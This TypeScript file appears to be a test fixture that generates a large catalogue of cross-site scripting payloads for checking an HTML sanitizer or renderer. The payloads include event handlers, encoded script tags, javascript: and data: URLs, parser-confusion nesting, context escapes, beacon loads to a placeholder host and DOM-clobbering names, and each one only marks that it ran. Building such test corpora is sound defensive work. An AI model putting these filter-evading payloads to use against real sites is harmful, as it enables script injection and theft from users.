/**
 * Texts that try to become script or markup, made by family: tags × handlers × quoting × encodings, addresses, broken
 * nesting, ends of other contexts, requests without script. Each calls `__executed.add(number)` if it runs, or asks
 * `BEACON` for its number if it is only loaded.
 */
export interface Payload {
  number: number;
  text: string;
  /** Leaves the parser in a state in which what follows is not read as markup. */
  swallows: boolean;
}

/** No host has this name. */
export const BEACON = 'https://beacon.hostile.invalid';

export function hostileTexts(): Payload[] {
  return [
    ...marked(handlers()),
    ...marked(scripts()),
    ...marked(addresses().map(inAttributes)),
    ...marked(nesting()),
    ...marked(endsOfContexts()),
    ...marked(loads()),
    ...marked(words()),
  ].map(({ write, swallows }, number) => ({ number, text: write(number), swallows }));
}

/** Bare addresses for links and redirects; each runs script, or shows a page of the attacker, where it is opened. */
export function hostileAddresses(): string[] {
  return addresses().map((write, number) => write(10_000 + number));
}

/** All payloads in groups, one for each page; one that swallows what follows stands last in its group. */
export function pagesOfMarkup(): string[][] {
  const all = hostileTexts();
  const plain = all.filter(({ swallows }) => !swallows).map(({ text }) => text);
  const last = all.filter(({ swallows }) => swallows).map(({ text }) => text);
  return last.map((text, page) => [...plain.filter((_, at) => at % last.length === page), text]);
}

/** Without quotes, blanks, equals signs and angle brackets, so that it fits everywhere. */
function run(number: number): string {
  return `alert(top.__executed.add(${number}))`;
}

type Write = (number: number) => string;

const running =
  (spell: (script: string) => string): Write =>
  (number) =>
    spell(run(number));

const SWALLOWING =
  /<!--(?!.*-->)|<(script|style|textarea|title|noscript|xmp|iframe|plaintext|template|select|svg|math|table|frameset|noembed)\b(?!.*<\/\1)|<[^>]*$/is;

function marked(writes: readonly Write[]) {
  return writes.map((write) => ({ write, swallows: SWALLOWING.test(write(0)) }));
}

/** Handlers that fire by themselves, on the elements on which they do. */
const SELF_FIRING: readonly (readonly [element: string, handler: string])[] = [
  ['img src=x:x', 'onerror'],
  ['img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=', 'onload'],
  ['image src=x:x', 'onerror'],
  ['video src=x:x', 'onerror'],
  ['audio src=x:x', 'onerror'],
  ['video><source src=x:x', 'onerror'],
  ['input type=image src=x:x', 'onerror'],
  ['script src=x:x', 'onerror'],
  ['link rel=stylesheet href=x:x', 'onerror'],
  ['object data=x:x', 'onerror'],
  ['svg', 'onload'],
  ['svg><image href=x:x', 'onerror'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe src=about:blank', 'onload'],
  ['style', 'onload'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# tabindex=1 autofocus', 'onfocus'],
  ['xss-element tabindex=1 autofocus', 'onfocus'],
  ['marquee', 'onstart'],
  ['embed src=data:text/plain,1', 'onload'],
];

/** Ways to write a handler. */
const SPELLINGS: readonly ((element: string, handler: string, script: string) => string)[] = [
  (element, handler, script) => `<${element} ${handler}=${script}>`,
  (element, handler, script) => `<${element} ${handler}="${script}">`,
  (element, handler, script) => `<${element}\n${handler.toUpperCase()}\t=\t'${script}' x>`,
  (element, handler, script) => `<${element.replace(/ /g, '\f')}\f${handler}=${decimal(script)}>`,
  (element, handler, script) => `<${mixed(element)} ${mixed(handler)}="${hexadecimal(script)}">`,
  (element, handler, script) => `<${element} ${handler}=eval(atob(\`${btoa(script)}\`))>`,
  (element, handler, script) => `<${element} title="<" ${handler}="\u000b;${script}//">`,
];

function handlers(): Write[] {
  const selfFiring = SELF_FIRING.flatMap(([element, handler]) =>
    SPELLINGS.map((spell) => running((script) => spell(element, handler, script))),
  );
  const waiting = 'onclick onmouseover onpointerenter onkeydown onanimationstart onbeforetoggle'.split(' ');
  const common = ['a href=#', 'p', 'button popovertarget=x', 'table background=x', 'h1 id=x popover'];
  const onCommon = common.flatMap((element) =>
    waiting.map((handler) =>
      running((script) => `<${element} ${handler}=${script}>text</${element.split(' ')[0]}>`),
    ),
  );
  return [...selfFiring, ...onCommon];
}

function scripts(): Write[] {
  const frames: ((script: string) => string)[] = [
    (script) => `<script>${script}</script>`,
    (script) => `<SCRIPT>${script}</SCRIPT >`,
    (script) => `<script\n>${script}</script\n>`,
    (script) => `<script/x>${script}</script/x>`,
    (script) => `<script type=module>${script}</script>`,
    (script) => `<script type="text/javascript" nonce="" async defer>${script}</script>`,
    (script) => `<script language=vbs>${script}</script>`,
    (script) => `<script>${script}`,
    (script) => `<<script>${script}//<</script>`,
    (script) => `<scr<script>ipt>${script}</scr</script>ipt>`,
    (script) => `<scr\u0000ipt>${script}</scr\u0000ipt>`,
    (script) => `<script src="data:text/javascript,${script}"></script>`,
    (script) => `<script src=data:text/javascript;base64,${btoa(script)}></script>`,
    (script) => `<script><!--\n${script}\n//--></script>`,
    (script) => `<svg><script>${script}</script></svg>`,
    (script) => `<svg><script>${decimal(script)}</script></svg>`,
    (script) => `<svg><script href="data:text/javascript,${script}"/></svg>`,
    (script) => `<math><script>${script}</script></math>`,
    (script) => `<template><script>${script}</script></template>`,
    (script) => `<div><template shadowrootmode=open><script>${script}</script></template></div>`,
    (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
    (script) => `<iframe srcdoc="${decimal(`<script>${script}</script>`)}"></iframe>`,
    (script) => `<object data="data:text/html,<script>${script}</script>"></object>`,
    (script) =>
      `<embed src="data:image/svg+xml;base64,${btoa(`<svg xmlns='http://www.w3.org/2000/svg' onload='${script}'/>`)}">`,
    (script) => `%3Cscript%3E${script}%3C/script%3E`,
    (script) => `&lt;script&gt;${script}&lt;/script&gt;`,
    (script) => `&amp;lt;img src=x:x onerror=${script}&amp;gt;`,
    (script) => `\\u003cscript\\u003e${script}\\u003c/script\\u003e`,
    (script) => `\uff1cscript\uff1e${script}\uff1c/script\uff1e`,
    (script) => `<\u200bscript>${script}</\u200bscript>`,
    (script) => `+ADw-script+AD4-${script}+ADw-/script+AD4-`,
  ];
  return frames.map(running);
}

function addresses(): Write[] {
  const spellings: ((script: string) => string)[] = [
    (script) => `javascript:${script}`,
    (script) => `JaVaScRiPt:${script}`,
    (script) => `java\tscript:${script}`,
    (script) => `java\nscript:${script}`,
    (script) => `java\rscript:${script}`,
    (script) => `\u0001javascript:${script}`,
    (script) => ` \u001fjavascript:${script}`,
    (script) => `javascript\t:${script}`,
    (script) => `javascript://example.com/%0a${script}`,
    (script) => `javascript:void(0);${script}`,
    (script) => `javascript:%61lert(1);${script}`,
    (script) => `javascript:/*https://example.com*/${script}`,
    (script) => `view-source:javascript:${script}`,
    (script) => `feed:javascript:${script}`,
    (script) => `vbscript:${script}`,
    (script) => `livescript:${script}`,
    (script) => `data:text/html,<script>${script}</script>`,
    (script) => `data:text/html;base64,${btoa(`<script>${script}</script>`)}`,
    (script) => `DATA:text/html;charset=utf-8,<svg onload=${script}>`,
    (script) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script}'/>`,
    (script) =>
      `data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>${script}</script></x>`,
    (script) => `blob:${script}`,
    (script) => `filesystem:${script}`,
    (script) => `about:blank#${script}`,
  ];
  return spellings.map(running);
}

/** One address in every attribute that takes one. */
function inAttributes(address: Write): Write {
  return (number) => {
    const written = address(number).replaceAll('"', '&quot;');
    const bare = 'a href,area href,img src,iframe src,embed src,object data,base href,form action'.split(',');
    return [
      ...bare.map((start) => `<${start}="${written}">`),
      `<button formaction="${written}">x</button><input type=submit formaction="${written}">`,
      `<svg><a xlink:href="${written}"><text>x</text></a><use href="${written}"/></svg>`,
      `<svg><a><animate attributeName=href values="${written}"/><text>x</text></a></svg>`,
      `<math href="${written}"><mi xlink:href="${written}">x</mi></math>`,
      `<meta http-equiv=refresh content="0;url=${written}"><link rel=stylesheet href="${written}">`,
      '</iframe></object></form>',
    ].join('');
  };
}

function nesting(): Write[] {
  const image = (number: number) => `<img src=x:x onerror=${run(number)}>`;
  const frames: Write[] = [
    (number) => `<svg></p><style><a id="</style>${image(number)}">`,
    (number) => `<math><mtext><table><mglyph><style><!--</style>${image(number)}`,
    (number) => `<math><mtext><table><mglyph><style><math><img title="</style>${image(number)}">`,
    (number) => `<form><math><mtext></form><form><mglyph><style></math>${image(number)}`,
    (number) => `<svg><foreignObject><p><style><![CDATA[</style>${image(number)}]]>`,
    (number) => `<svg><title><style><img title="</style></title></svg>${image(number)}">`,
    (number) => `<svg><desc><noscript><p title="</noscript>${image(number)}">`,
    (number) => `<noscript><p title="</noscript>${image(number)}"></noscript>`,
    (number) => `<noembed><img title="</noembed>${image(number)}"></noembed>`,
    (number) => `<xmp><p title="</xmp>${image(number)}"></xmp>`,
    (number) => `<textarea><p title="</textarea>${image(number)}"></textarea>`,
    (number) => `<title><p title="</title>${image(number)}"></title>`,
    (number) => `<template><p title="</template>${image(number)}"></template>`,
    (number) => `<select><option><style></select>${image(number)}</style></option></select>`,
    (number) => `<table><td><p><svg><style>*{x:'</style>${image(number)}'}</style></svg></table>`,
    (number) => `<!--><p>${image(number)}-->`,
    (number) => `<!--!>${image(number)}-->`,
    (number) => `<!-- --!>${image(number)}-->`,
    (number) => `<![CDATA[><p>${image(number)}]]>`,
    (number) => `<?xml ><p>${image(number)}?>`,
    (number) => `<!doctype x [<!ENTITY x "${image(number)}">]>&x;`,
    (number) => `<a href="x" title="${decimal('"')}>${image(number)}">x</a>`,
    (number) => `<img alt=\`x\`\`${image(number)}\`>`,
    (number) => `<p title="a\u0000">${image(number)}</p>`,
    (number) => `<${'div><'.repeat(600)}p>${image(number)}`,
    (number) => `<img${' x'.repeat(2000)} src=x:x onerror=${run(number)}>`,
    (number) => `<plaintext>${image(number)}`,
    (number) => `<frameset onload=${run(number)}>`,
    (number) => `<isindex type=image src=x:x onerror=${run(number)}>`,
    (number) => `<p is="x-y" onerror=1>${image(number)}</p>`,
    (number) => `<slot onslotchange=${run(number)}><b>x</b></slot>${image(number)}`,
    (number) => `<dialog open><form method=dialog>${image(number)}</form></dialog>`,
  ];
  return frames;
}

/** Starts that end an attribute, an element, a string, a comment or a statement around the text. */
const ENDS = [
  '" \' ` > "> \'> `> ">"> --> --!> ]]> */ ?> %> ) }) "}) \'); "); `); \\ \\"; \\\'; \u2028',
  '\r\n\r\n </p> </title> </style> </script> </textarea> </noscript> </template> </select> </svg>',
  '</main></body></html> "/> {{ ${ #{ <%= {%',
].flatMap((ends) => ends.split(' '));

function endsOfContexts(): Write[] {
  const rests: ((script: string) => string)[] = [
    (script) => `<script>${script}</script>`,
    (script) => ` autofocus tabindex=1 onfocus=${script} onerror=${script} onload=${script} x=`,
    (script) => `;${script};//`,
  ];
  return ENDS.flatMap((end) => rests.map((rest) => running((script) => end + rest(script))));
}

/** Nothing runs; something is asked of another host, or the page is led elsewhere. Pictures of a policy are allowed. */
function loads(): Write[] {
  const frames: ((address: string) => string)[] = [
    (address) => `<link rel=stylesheet href=${address}>`,
    (address) => `<link rel=prefetch href=${address}><link rel=preload as=fetch href=${address}>`,
    (address) => `<link rel=dns-prefetch href=${address}><link rel=icon href=${address}>`,
    (address) => `<style>@import url(${address})</style>`,
    (address) => `<style>*{background:url(${address})}</style>`,
    (address) => `<p style="background:url(${address})">x</p>`,
    (address) => `<script src=${address}></script>`,
    (address) => `<iframe src=${address}></iframe>`,
    (address) => `<object data=${address}></object><embed src=${address}>`,
    (address) => `<video src=${address} poster=${address} autoplay></video>`,
    (address) => `<audio src=${address} autoplay></audio>`,
    (address) => `<video><source src=${address}><track default kind=captions src=${address}></video>`,
    (address) => `<input type=image src=${address}>`,
    (address) => `<body background=${address}><table background=${address}><td background=${address}>`,
    (address) => `<svg><image href=${address} /><use href=${address}#x /></svg>`,
    (address) => `<svg><filter><feImage href=${address} /></filter></svg>`,
    (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
    (address) => `<base href=${address}/>`,
    (address) => `<form action=${address}><input name=x autofocus></form>`,
    (address) => `<a href=/ ping=${address}>x</a>`,
    (address) => `<html manifest=${address}>`,
    (address) => `<portal src=${address}></portal>`,
  ];
  return frames.map(
    (frame): Write =>
      (number) =>
        frame(`${BEACON}/${number}`),
  );
}

/** For templates, for objects used as maps, and for names that a document looks up. */
function words(): Write[] {
  return [
    (number) => `{{constructor.constructor('${run(number)}')()}}`,
    (number) => `\${${run(number)}}`,
    (number) => `#{${run(number)}}`,
    (number) => `<%= ${run(number)} %>`,
    (number) => `{{companyName}}<img src=x:x onerror=${run(number)}>{companyAddress}`,
    (number) => `$&$\`$'<img src=x:x onerror=${run(number)}>`,
    () => '__proto__',
    () => 'constructor',
    () => 'toString',
    () => 'javascript',
    (number) => `<img name=__executed><form id=cookie><input name=attributes><b>${number}</b></form>`,
    (number) => `<a id=location href="javascript:${run(number)}"></a><a id=location name=href></a>`,
    (number) => `<form name=body><input name=firstChild onfocus=${run(number)} autofocus></form>`,
  ];
}

function decimal(text: string): string {
  return [...text].map((letter) => `&#${letter.codePointAt(0)};`).join('');
}

function hexadecimal(text: string): string {
  return [...text].map((letter) => `&#x${letter.codePointAt(0)?.toString(16).padStart(7, '0')}`).join('');
}

function mixed(text: string): string {
  return [...text].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join('');
}
